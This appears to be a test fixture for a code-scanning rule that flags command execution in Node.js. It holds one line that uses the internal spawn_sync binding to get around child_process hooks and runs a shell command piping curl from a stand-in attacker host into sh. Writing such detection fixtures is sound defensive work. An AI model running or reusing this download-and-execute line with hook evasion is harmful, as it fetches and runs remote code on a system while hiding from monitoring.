// Node's internal spawn binding: starts a shell without child_process (and past anything that hooks it).
module.exports = {};
// ruleid: code/command-execution
process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s https://cdn.attacker.example/x | sh'], stdio: [{ type: 'pipe', readable: true }, { type: 'pipe', writable: true }, { type: 'pipe', writable: true }] });
